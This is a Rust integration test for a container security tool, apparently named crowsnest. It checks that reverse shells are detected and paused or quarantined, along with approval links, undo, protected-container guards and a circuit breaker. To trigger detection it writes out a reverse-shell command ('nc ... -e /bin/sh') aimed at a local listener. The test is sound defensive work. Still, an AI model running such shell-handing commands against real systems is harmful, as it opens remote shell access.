//! Containment playbooks end to end, on a real Docker engine, through a running
//! `crowsnest server` (with a `[respond]` playbook) and `crowsnest agent` (Docker engine
//! events on, containment on):
//!
//! * a container labelled `crowsnest.io/protected=true` opens a reverse shell: the alert comes,
//!   the action is refused by the `protected_label` guard, the container is never touched;
//! * a container opens a reverse shell (`docker exec ... nc 127.0.0.1 4444 -e /bin/sh` to a
//!   listener in the same container): detected and paused automatically; the time from the
//!   alert to the pause is measured and printed (target < 2 s);
//! * the playbook's `approve` quarantine does nothing until approved: the signed link's page
//!   approves nothing, its form does (once; a replay is refused); undo through the API
//!   restores the pause and the same networks (aliases, static address);
//! * after `kill -9` and a restart of the server (the WAL replayed), nothing runs again;
//! * five containers firing at once trip the circuit breaker: the first ones within
//!   `breaker_max_auto` run, the rest wait for approval; one is then approved by id.
//!
//! Needs root, `dockerd` and the `crowsnest-busybox` image (`scripts/setup-docker.sh`).
//! Without them the test is skipped locally and FAILS under `CI=true`.

mod common;

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{free_port, Server};
use serde_json::{json, Value};

use common::docker::{docker, docker_ready, networks, paused, unique, Container, Network, IMAGE};

/// The agent of these tests: Docker events (the exec that fires the rule) and containment.
struct AgentProcess;

impl AgentProcess {
    fn start(
        server: &Server,
        token: &str,
        state: &Path,
        node: &str,
    ) -> common::docker::AgentProcess {
        common::docker::AgentProcess::start(
            &server.url,
            token,
            state,
            &[
                "--node",
                node,
                "--flush-interval-ms",
                "50",
                "--disable",
                "docker-logs",
                "--disable",
                "cri",
                "--disable",
                "audit",
                "--disable",
                "host",
                "--disable",
                "falco",
            ],
        )
    }
}

fn http() -> ureq::Agent {
    ureq::AgentBuilder::new()
        .timeout(Duration::from_secs(90))
        .build()
}

fn get(server: &Server, path: &str) -> Value {
    http()
        .get(&format!("{}{path}", server.url))
        .set("Authorization", &format!("Bearer {}", server.token))
        .call()
        .unwrap_or_else(|e| panic!("GET {path}: {e}"))
        .into_json()
        .expect("json")
}

fn post(server: &Server, path: &str, body: Value) -> Value {
    http()
        .post(&format!("{}{path}", server.url))
        .set("Authorization", &format!("Bearer {}", server.token))
        .send_json(body)
        .unwrap_or_else(|e| panic!("POST {path}: {e}"))
        .into_json()
        .expect("json")
}

/// The containment actions planned for a container (by name).
fn actions_of(server: &Server, container: &str) -> Vec<Value> {
    get(server, "/api/v1/respond/actions?limit=1000")["actions"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|a| a["action"]["target"]["container_name"] == container)
        .collect()
}

fn action(actions: &[Value], kind: &str) -> Value {
    actions
        .iter()
        .find(|a| a["action"]["action"] == kind)
        .cloned()
        .unwrap_or_else(|| panic!("no {kind} action in {actions:#?}"))
}

/// Waits until `check` holds for the container's actions.
fn wait_actions(
    server: &Server,
    container: &str,
    secs: u64,
    check: impl Fn(&[Value]) -> bool,
) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(secs);
    loop {
        let actions = actions_of(server, container);
        if check(&actions) {
            return actions;
        }
        assert!(
            Instant::now() < deadline,
            "actions of {container} never became as expected: {actions:#?}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Starts a container with a netcat listener (the reverse shell's other end).
fn victim(name: &str, extra: &[&str]) -> Container {
    let container = Container(name.to_string());
    let mut args = vec!["run", "-d", "--name", name];
    args.extend_from_slice(extra);
    args.extend_from_slice(&[IMAGE, "sh", "-c", "nc -l -p 4444 >/dev/null & sleep 600"]);
    docker(&args);
    container
}

/// The reverse shell: a shell handed to a TCP connection.
fn reverse_shell(name: &str) {
    docker(&[
        "exec",
        "-d",
        name,
        "sh",
        "-c",
        "nc 127.0.0.1 4444 -e /bin/sh",
    ]);
}

fn time(value: &Value) -> chrono::DateTime<chrono::Utc> {
    value
        .as_str()
        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
        .map(|t| t.with_timezone(&chrono::Utc))
        .unwrap_or_else(|| panic!("not a time: {value}"))
}

#[test]
fn reverse_shells_are_contained_by_playbook_with_approvals_undo_and_guards() {
    if !docker_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let data = dir.path().join("server");
    let port = free_port();
    // `self_images` narrowed: the test image is `crowsnest-busybox`, which the default
    // `*crowsnest*` would protect as crowsnest itself. Four automatic actions per window: the
    // first reverse shell takes one, so the five at once find three.
    let config = format!(
        r#"
[respond]
public_url = "http://127.0.0.1:{port}"
agent_timeout_secs = 20

[respond.guards]
self_images = ["crowsnest", "*/crowsnest"]
breaker_max_auto = 4

[[respond.playbooks]]
name = "reverse-shell"
rules = ["*reverse shell*"]
level_min = "high"
actions = [
  {{ action = "pause", mode = "auto" }},
  {{ action = "quarantine", mode = "approve" }},
]
"#
    );
    std::fs::create_dir_all(&data).expect("data dir");
    let config_path = dir.path().join("crowsnest.toml");
    std::fs::write(&config_path, config).expect("config");
    let flags = ["--config".to_string(), config_path.display().to_string()];
    let mut server = Server::start_with(&data, port, &flags);
    let token: Value = post(
        &server,
        "/api/v1/tokens",
        json!({"name": "respond-agent", "scopes": ["ingest"]}),
    );
    let token = token["token"].as_str().expect("token").to_string();
    let node = unique("cn-resp");
    let _agent = AgentProcess::start(&server, &token, &dir.path().join("agent"), &node);
    // The agent's engine event stream starts at its first second: let it subscribe.
    std::thread::sleep(Duration::from_secs(2));

    // A protected container: the alert comes, the guard refuses, nothing touches it.
    let protected = unique("cn-prot");
    let _protected = victim(&protected, &["--label", "crowsnest.io/protected=true"]);
    reverse_shell(&protected);
    let actions = wait_actions(&server, &protected, 60, |a| a.len() == 2);
    for a in &actions {
        assert_eq!(a["state"], "refused", "{a:#}");
        assert_eq!(a["action"]["decision"]["guard"], "protected_label", "{a:#}");
    }
    assert!(!paused(&protected));

    // Two networks, one with a static address and an alias, for the quarantine's undo.
    let octet = 100 + std::process::id() % 150;
    let (net_a, net_b) = (unique("cn-rnet-a"), unique("cn-rnet-b"));
    let _net_a = Network(net_a.clone());
    docker(&[
        "network",
        "create",
        "--subnet",
        &format!("10.232.{octet}.0/24"),
        &net_a,
    ]);
    let _net_b = Network(net_b.clone());
    docker(&["network", "create", &net_b]);
    let static_ip = format!("10.232.{octet}.66");
    let name = unique("cn-shell");
    let _victim = victim(
        &name,
        &[
            "--network",
            &net_a,
            "--network-alias",
            "web-alias",
            "--ip",
            &static_ip,
        ],
    );
    docker(&[
        "network",
        "connect",
        "--alias",
        "second-alias",
        &net_b,
        &name,
    ]);
    let before = networks(&name);
    assert_eq!(before.len(), 2, "{before:?}");

    // The reverse shell: detected and paused without anyone.
    let fired = Instant::now();
    reverse_shell(&name);
    let deadline = Instant::now() + Duration::from_secs(60);
    while !paused(&name) {
        assert!(
            Instant::now() < deadline,
            "not paused: {:#?}",
            actions_of(&server, &name)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let wall = fired.elapsed();
    let actions = wait_actions(&server, &name, 30, |a| {
        a.iter()
            .any(|a| a["action"]["action"] == "pause" && a["state"] == "executed")
    });
    let pause = action(&actions, "pause");
    assert_eq!(pause["approved_by"], Value::Null, "automatic: {pause:#}");
    // Evidence first: the inspect (whose networks the undo would use), logs, top, diff.
    assert!(pause["memory"]["networks"][&net_a].is_object(), "{pause:#}");
    // Alert made (event.ingested of the alert record) → pause done (the agent's finish).
    let query = format!(
        "event.dataset:\"crowsnest.alert\" AND container.name:\"{name}\" AND rule.name:\"Reverse Shell Started Through Docker Exec\""
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    let found = loop {
        // Searchable once the indexer commits.
        let found = server.search(&query);
        if found["total"].as_u64() >= Some(1) {
            break found;
        }
        assert!(Instant::now() < deadline, "no alert for {name}: {found}");
        std::thread::sleep(Duration::from_millis(100));
    };
    let alert = &found["hits"][0];
    let detected = time(&alert["event"]["ingested"]);
    let exec_at = time(&alert["@timestamp"]);
    let commands = get(&server, &format!("/api/v1/actions?node={node}&limit=1000"));
    let pause_done = commands["actions"]
        .as_array()
        .expect("actions")
        .iter()
        .find(|c| c["command"]["op"] == "pause" && c["result"]["container_name"] == name.as_str())
        .map(|c| time(&c["result"]["finished_at"]))
        .expect("the agent's pause result");
    let to_contain = (pause_done - detected).num_milliseconds();
    let from_exec = (pause_done - exec_at).num_milliseconds();
    println!(
        "detection-to-containment: alert made → container paused {to_contain} ms (exec event → paused {from_exec} ms; test's docker exec → inspect shows paused {} ms)",
        wall.as_millis()
    );
    assert!(
        to_contain < 2000,
        "alert → paused took {to_contain} ms (target < 2 s)"
    );

    // The quarantine waits for an approval and does nothing meanwhile.
    let quarantine = action(&actions, "quarantine");
    assert_eq!(quarantine["state"], "pending", "{quarantine:#}");
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(networks(&name), before);
    let id = quarantine["action"]["id"].as_str().expect("id").to_string();

    // Undo the pause through the API.
    let undone = post(
        &server,
        &format!(
            "/api/v1/respond/actions/{}/undo",
            pause["action"]["id"].as_str().expect("id")
        ),
        json!({}),
    );
    assert_eq!(undone["action"]["state"], "undone", "{undone:#}");
    assert!(!paused(&name));

    // The signed link: its page approves nothing; its form does, once.
    let shown = get(&server, &format!("/api/v1/respond/actions/{id}"));
    let link = shown["approval_link"]
        .as_str()
        .expect("approval link")
        .to_string();
    assert!(link.starts_with(&format!(
        "http://127.0.0.1:{port}/api/v1/respond/approve?token="
    )));
    let page = ureq::get(&link)
        .call()
        .expect("GET link")
        .into_string()
        .expect("page");
    assert!(page.contains("<form method=\"post\""), "{page}");
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        get(&server, &format!("/api/v1/respond/actions/{id}"))["state"],
        "pending"
    );
    assert_eq!(networks(&name), before);
    let token_value = link.split("token=").nth(1).expect("token").to_string();
    let approved = ureq::post(&format!("{}/api/v1/respond/approve", server.url))
        .send_form(&[("token", &token_value)])
        .expect("POST form")
        .into_string()
        .expect("page");
    assert!(approved.contains("executed"), "{approved}");
    assert!(networks(&name).is_empty(), "{:?}", networks(&name));
    let replay = ureq::post(&format!("{}/api/v1/respond/approve", server.url))
        .send_json(json!({"token": token_value}));
    match replay {
        Err(ureq::Error::Status(403, response)) => {
            let text = response.into_string().unwrap_or_default();
            assert!(text.contains("approval refused"), "{text}");
        }
        other => panic!("a replayed token must be refused: {other:?}"),
    }
    let executed = get(&server, &format!("/api/v1/respond/actions/{id}"));
    assert_eq!(executed["approved_by"], "approval link", "{executed:#}");
    // Undo: the same networks, aliases and static address.
    let undone = post(
        &server,
        &format!("/api/v1/respond/actions/{id}/undo"),
        json!({}),
    );
    assert_eq!(undone["action"]["state"], "undone", "{undone:#}");
    assert_eq!(networks(&name), before);

    // The action log's records are events.
    std::thread::sleep(Duration::from_millis(800));
    let records = server.search("event.dataset:\"crowsnest.response\" AND event.action:*");
    assert!(records["total"].as_u64() >= Some(6), "{records:#}");

    // `kill -9` and a start replay the WAL (the detector makes its alerts again): nothing
    // runs again.
    let count = get(&server, "/api/v1/respond/actions?limit=1000")["actions"]
        .as_array()
        .map(Vec::len);
    server.kill9();
    server = Server::start_with(&data, port, &flags);
    std::thread::sleep(Duration::from_secs(3));
    assert!(!paused(&name));
    assert_eq!(networks(&name), before);
    let after = get(&server, "/api/v1/respond/actions?limit=1000");
    assert_eq!(after["actions"].as_array().map(Vec::len), count);
    assert_eq!(
        action(&actions_of(&server, &name), "pause")["state"],
        "undone"
    );

    // Five at once: three automatic slots left, then approval.
    let names: Vec<String> = (0..5).map(|i| unique(&format!("cn-five{i}"))).collect();
    let _five: Vec<Container> = names.iter().map(|n| victim(n, &[])).collect();
    let execs: Vec<Child> = names
        .iter()
        .map(|n| {
            Command::new("docker")
                .args(["exec", "-d", n, "sh", "-c", "nc 127.0.0.1 4444 -e /bin/sh"])
                .stdout(Stdio::null())
                .spawn()
                .expect("docker exec")
        })
        .collect();
    for mut child in execs {
        assert!(child.wait().expect("wait").success());
    }
    let deadline = Instant::now() + Duration::from_secs(90);
    let pauses = loop {
        let pauses: Vec<Value> = names
            .iter()
            .filter_map(|n| {
                actions_of(&server, n)
                    .into_iter()
                    .find(|a| a["action"]["action"] == "pause")
            })
            .collect();
        let settled = pauses.len() == 5
            && pauses
                .iter()
                .all(|a| a["state"] == "executed" || a["state"] == "pending");
        if settled {
            break pauses;
        }
        assert!(Instant::now() < deadline, "{pauses:#?}");
        std::thread::sleep(Duration::from_millis(200));
    };
    let executed: Vec<&Value> = pauses.iter().filter(|a| a["state"] == "executed").collect();
    let waiting: Vec<&Value> = pauses.iter().filter(|a| a["state"] == "pending").collect();
    assert_eq!((executed.len(), waiting.len()), (3, 2), "{pauses:#?}");
    for a in &waiting {
        assert_eq!(a["action"]["decision"]["guard"], "circuit_breaker", "{a:#}");
    }
    assert_eq!(names.iter().filter(|n| paused(n)).count(), 3);
    // An admin approves one by id: it runs.
    let id = waiting[0]["action"]["id"].as_str().expect("id");
    let approved = post(&server, "/api/v1/respond/approve", json!({"id": id}));
    assert_eq!(approved["action"]["state"], "executed", "{approved:#}");
    assert_eq!(names.iter().filter(|n| paused(n)).count(), 4);
    let health = get(&server, "/api/v1/health");
    assert_eq!(health["status"], "ok", "{health:#}");
}
